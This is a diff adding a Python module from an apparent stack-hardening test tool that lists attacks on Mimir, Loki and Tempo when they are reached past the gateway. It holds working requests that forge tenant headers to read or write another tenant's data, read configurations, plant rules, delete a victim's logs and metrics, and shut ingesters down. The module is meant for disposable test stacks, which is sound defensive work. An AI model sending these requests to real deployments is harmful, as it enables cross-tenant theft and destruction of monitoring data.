@@ -1,0 +1,283 @@
+"""Attacks on the backends themselves: what the gateway and the network policies protect from.
+
+Only where a stack is disposable. Most are expected to succeed: Mimir, Loki and Tempo believe the
+header. Each row says which of them fall for it.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterable, Iterator
+
+from stackproof.attacks.base import LOOKED_FOR, Attack, Door, Expect, Raid, address
+from stackproof.attacks.wire import Address, Shot, http1
+from stackproof.backends import PROVABLE
+from stackproof.errors import StackproofError
+from stackproof.stack.base import TENANT_HEADER, Access, Backend, Signal
+from stackproof.stack.local import LocalStack
+
+_ALL = tuple(Signal)
+_H = TENANT_HEADER
+_READS = tuple(
+    api for api in PROVABLE if api.id in {*LOOKED_FOR.values(), "tempo.search-traceql", "loki.tail"}
+)
+_STORES: dict[Signal, tuple[Backend, str]] = {
+    Signal.METRICS: (Backend.MIMIR, "/otlp/v1/metrics"),
+    Signal.LOGS: (Backend.LOKI, "/otlp/v1/logs"),
+    Signal.TRACES: (Backend.TEMPO, "/v1/traces"),
+}
+_BESIDE = "it is past every gateway"
+
+
+def _otlp(raid: Raid, backend: Backend) -> Address:
+    if backend is not Backend.TEMPO:
+        return raid.backend(backend)
+    stack = raid.scene.stack
+    if not isinstance(stack, LocalStack):
+        raise StackproofError("Tempo's OTLP port is known on the local stack only", stack.name)
+    return address(stack.process("gateway").env["TEMPO_OTLP_URL"])
+
+
+def _fill(lines: Iterable[str], raid: Raid) -> list[str]:
+    return [line.format(victim=raid.victim, attacker=raid.attacker) for line in lines]
+
+
+def _reads(*lines: str) -> Callable[[Raid], Iterator[Shot]]:
+    def sends(raid: Raid) -> Iterator[Shot]:
+        stack = raid.scene.stack
+        straight = Access("backend", {each: stack.backend_url(each) for each in Backend})
+        return (raid.request(api, straight, _fill(lines, raid)) for api in _READS)
+
+    return sends
+
+
+def _writes(*lines: str, signals: Iterable[Signal] = _ALL) -> Callable[[Raid], Iterator[Shot]]:
+    def sends(raid: Raid) -> Iterator[Shot]:
+        for signal in signals:
+            backend, path = _STORES[signal]
+            yield raid.write(signal, *_fill(lines, raid), path=path, to=_otlp(raid, backend))
+
+    return sends
+
+
+def _asks(
+    *requests: tuple[Backend, str, str], lines: Iterable[str] = (), body: bytes = b""
+) -> Callable[[Raid], Iterator[Shot]]:
+    def sends(raid: Raid) -> Iterator[Shot]:
+        for backend, method, path in requests:
+            sent = body if method != "GET" else None
+            yield http1(raid.backend(backend), method, path, _fill(lines, raid), sent)
+
+    return sends
+
+
+def _row(
+    name: str,
+    does: str,
+    source: str,
+    sends: Callable[[Raid], Iterable[Shot]],
+    *,
+    expect: Expect = Expect.DOCUMENTED,
+    writes: tuple[Signal, ...] = (),
+    destroys: bool = False,
+) -> Attack:
+    return Attack(
+        name=f"backend-{name}",
+        door=Door.BACKEND,
+        does=does,
+        source=source,
+        expect=expect,
+        sends=sends,
+        writes=writes,
+        destroys=destroys,
+        passes_on_trusting_gateway=_BESIDE,
+    )
+
+
+_DELETE = "/loki/api/v1/delete?start=1700000000&query=" + "%7Bservice_name%3D%22open-webui%22%7D"
+_RULE = b"name: g\nrules: [{record: a, expr: vector(1)}]\n"
+_STEALING_RULE = b"name: g\nsource_tenants: [soev]\nrules: [{record: a, expr: up}]\n"
+
+DIRECT: tuple[Attack, ...] = (
+    _row(
+        "read-without-header",
+        "asks the backends without a tenant",
+        "multitenancy_enabled and auth_enabled are on",
+        _reads(),
+        expect=Expect.REFUSED,
+    ),
+    _row(
+        "write-without-header",
+        "exports to the backends without a tenant",
+        "Tempo answers 503, which exporters send again (observed)",
+        _writes(),
+        expect=Expect.REFUSED,
+        writes=_ALL,
+    ),
+    _row(
+        "write-empty-header",
+        "exports to Mimir and Loki with an empty header",
+        "Tempo before 2.10 stores it under the tenant '' (observed), so it is left out here",
+        _writes(f"{_H}:", signals=(Signal.METRICS, Signal.LOGS)),
+        expect=Expect.REFUSED,
+        writes=(Signal.METRICS, Signal.LOGS),
+    ),
+    _row(
+        "read-as-another-tenant",
+        "asks the backends with the victim's name in the header",
+        "grafana.com/docs: the backends trust whoever reaches them",
+        _reads(f"{_H}: {{victim}}"),
+    ),
+    _row(
+        "write-as-another-tenant",
+        "exports to the backends with the victim's name in the header",
+        "grafana.com/docs: the backends trust whoever reaches them",
+        _writes(f"{_H}: {{victim}}"),
+        writes=_ALL,
+    ),
+    _row(
+        "read-a-list",
+        "asks the backends for two tenants at once",
+        "tenant federation is on, for the admin",
+        _reads(f"{_H}: {{attacker}}|{{victim}}"),
+    ),
+    _row(
+        "read-with-suffix",
+        "asks the backends for `victim:x`",
+        "Loki 3.7.8 and Mimir 3.0.5 drop what follows the colon",
+        _reads(f"{_H}: {{victim}}:x"),
+    ),
+    _row(
+        "write-a-list",
+        "exports to Mimir and Loki for two tenants at once",
+        "Mimir 503, Loki 400: neither stores it",
+        _writes(f"{_H}: {{attacker}}|{{victim}}", signals=(Signal.METRICS, Signal.LOGS)),
+        expect=Expect.REFUSED,
+        writes=(Signal.METRICS, Signal.LOGS),
+    ),
+    _row(
+        "write-a-list-to-tempo",
+        "exports to Tempo for two tenants at once",
+        "Tempo before 2.10 makes a tenant of that name, which nobody can read (observed)",
+        _writes(f"{_H}: {{attacker}}|{{victim}}", signals=(Signal.TRACES,)),
+        destroys=True,
+    ),
+    _row(
+        "write-a-bar",
+        "exports to Mimir and Loki as `|`",
+        "Mimir 3.0.5 and Loki 3.7.8 store it under the tenant ''",
+        _writes(f"{_H}: |", signals=(Signal.METRICS, Signal.LOGS)),
+    ),
+    _row(
+        "write-as-stray",
+        "exports to the backends as `anonymous`",
+        "the backends make a tenant of any name",
+        _writes(f"{_H}: anonymous"),
+    ),
+    _row(
+        "write-as-internal",
+        "exports to Mimir as `__mimir_cluster`",
+        "Mimir 3.0.5 takes it, though its documentation reserves it",
+        _writes(f"{_H}: __mimir_cluster", signals=(Signal.METRICS,)),
+    ),
+    _row(
+        "write-dots",
+        "exports to Mimir and Loki as `..`",
+        "CVE-2021-36157",
+        _writes(f"{_H}: ..", signals=(Signal.METRICS, Signal.LOGS)),
+        expect=Expect.REFUSED,
+        writes=(Signal.METRICS, Signal.LOGS),
+    ),
+    _row(
+        "write-dots-to-tempo",
+        "exports to Tempo as `..`, which removes what all tenants have in memory",
+        "grafana/tempo#5786: before 2.10 the generator runs RemoveAll on the path",
+        _writes(f"{_H}: ..", signals=(Signal.TRACES,)),
+        destroys=True,
+    ),
+    _row(
+        "configurations",
+        "reads configurations, metrics and lists of tenants",
+        "CVE-2026-28377 and observed: nobody is asked for a tenant",
+        _asks(
+            (Backend.MIMIR, "GET", "/config"),
+            (Backend.MIMIR, "GET", "/ingester/tenants"),
+            (Backend.MIMIR, "GET", "/ruler/rule_groups"),
+            (Backend.LOKI, "GET", "/config"),
+            (Backend.LOKI, "GET", "/metrics"),
+            (Backend.TEMPO, "GET", "/status/config"),
+            (Backend.TEMPO, "GET", "/status/overrides/soev"),
+        ),
+    ),
+    _row(
+        "rules-of-another",
+        "sets a rule as the victim, and reads the victim's",
+        "the ruler's API takes the tenant from the header",
+        _asks(
+            (Backend.MIMIR, "POST", "/prometheus/config/v1/rules/n"),
+            (Backend.MIMIR, "GET", "/prometheus/config/v1/rules"),
+            lines=[f"{_H}: {{victim}}", "Content-Type: application/yaml"],
+            body=_RULE,
+        ),
+    ),
+    _row(
+        "rule-that-reads-another",
+        "sets a rule whose source_tenants name the victim",
+        "400 unless ruler.tenant_federation is on",
+        _asks(
+            (Backend.MIMIR, "POST", "/prometheus/config/v1/rules/n"),
+            lines=[f"{_H}: {{attacker}}", "Content-Type: application/yaml"],
+            body=_STEALING_RULE,
+        ),
+        expect=Expect.REFUSED,
+    ),
+    _row(
+        "delete-lists",
+        "deletes log lines of two tenants at once",
+        "the delete API is for one tenant (observed, Loki)",
+        _asks((Backend.LOKI, "POST", _DELETE), lines=[f"{_H}: {{attacker}}|{{victim}}"]),
+        expect=Expect.REFUSED,
+    ),
+    _row(
+        "delete-own-by-anothers-selector",
+        "deletes its own lines by a selector that the victim's match too",
+        "deletion is per tenant (observed, Loki)",
+        _asks((Backend.LOKI, "POST", _DELETE), lines=[f"{_H}: {{attacker}}"]),
+        expect=Expect.HARMLESS,
+    ),
+    _row(
+        "delete-anothers",
+        "deletes the victim's lines and metrics",
+        "the delete APIs take the tenant from the header",
+        _asks(
+            (Backend.LOKI, "POST", _DELETE),
+            (Backend.MIMIR, "POST", "/compactor/delete_tenant"),
+            lines=[f"{_H}: {{victim}}"],
+        ),
+        destroys=True,
+    ),
+    _row(
+        "tail-a-list",
+        "tails two tenants at once",
+        "grafana/loki#9493: the tail is for one tenant",
+        lambda raid: [
+            shot
+            for api, shot in zip(
+                _READS, _reads(f"{_H}: {{attacker}}|{{victim}}")(raid), strict=True
+            )
+            if api.stream
+        ],
+        expect=Expect.REFUSED,
+    ),
+    _row(
+        "flush-and-shutdown",
+        "flushes and shuts ingesters down",
+        "nobody is asked for a tenant (observed)",
+        _asks(
+            (Backend.LOKI, "POST", "/flush"),
+            (Backend.TEMPO, "POST", "/flush"),
+            (Backend.MIMIR, "POST", "/ingester/flush"),
+            (Backend.MIMIR, "POST", "/ingester/shutdown"),
+        ),
+        destroys=True,
+    ),
+)
